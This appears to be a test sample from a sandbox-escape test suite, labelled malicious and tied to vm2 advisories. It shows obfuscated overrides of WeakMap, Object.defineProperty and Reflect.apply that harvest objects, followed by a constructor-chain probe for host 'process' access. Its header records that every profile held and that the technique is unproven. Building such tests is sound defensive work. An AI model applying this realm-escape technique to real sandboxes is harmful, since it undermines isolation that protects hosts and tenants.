/*---
id: re-builtin-lookup-02-weakmap-define
description: "Overrides WeakMap.prototype.set/get, Object.defineProperty and Reflect.apply through computed keys, the bridge internals vm2 looked up at call time, and inspects every key and value they see."
kind: malicious
category: realm-escape
technique: RE-builtin-lookup
variant: obfuscated
references:
  - "CVE-2022-25893"
  - "vm2 ATTACKS cat. 10-11"
  - "CVE-2026-47698"
unproven: "Not proven against a vulnerable target: the sample tests the advisory's technique, not its published trigger. On vm2 3.9.19, the one vulnerable sandbox the suite installs, it gives no oracle evidence."
expect:
  ultra-secure: { outcome: contained, value: "held" }
  high-security: { outcome: contained, value: "held" }
  tenant-isolated: { outcome: contained, value: "held" }
flags: [async]
---*/
const seen = new Set();
const wm = WeakMap['proto' + 'type'];
const oSet = wm.set; const oGet = wm.get; const oDef = Object.defineProperty; const oApply = Reflect.apply;
wm['s' + 'et'] = function (k, v) { seen.add(k); seen.add(v); return oApply(oSet, this, [k, v]); };
wm['g' + 'et'] = function (k) { seen.add(k); return oApply(oGet, this, [k]); };
Object['define' + 'Property'] = function (o, k, d) { seen.add(o); return oDef(o, k, d); };
Reflect['ap' + 'ply'] = function (f, t, a) { seen.add(f); seen.add(t); return oApply(f, t, a); };
console.log('x');
try { if (typeof fetch === 'function') await fetch('https://a.example/'); } catch (e) { seen.add(e); }
try { require('fs'); } catch (e) { seen.add(e); }
for (const v of seen) {
  if (v === null || (typeof v !== 'object' && typeof v !== 'function')) continue;
  try { if (v.constructor.constructor('return typeof process')() !== 'undefined') return 'ESCAPED'; } catch (e) {}
}
return 'held';
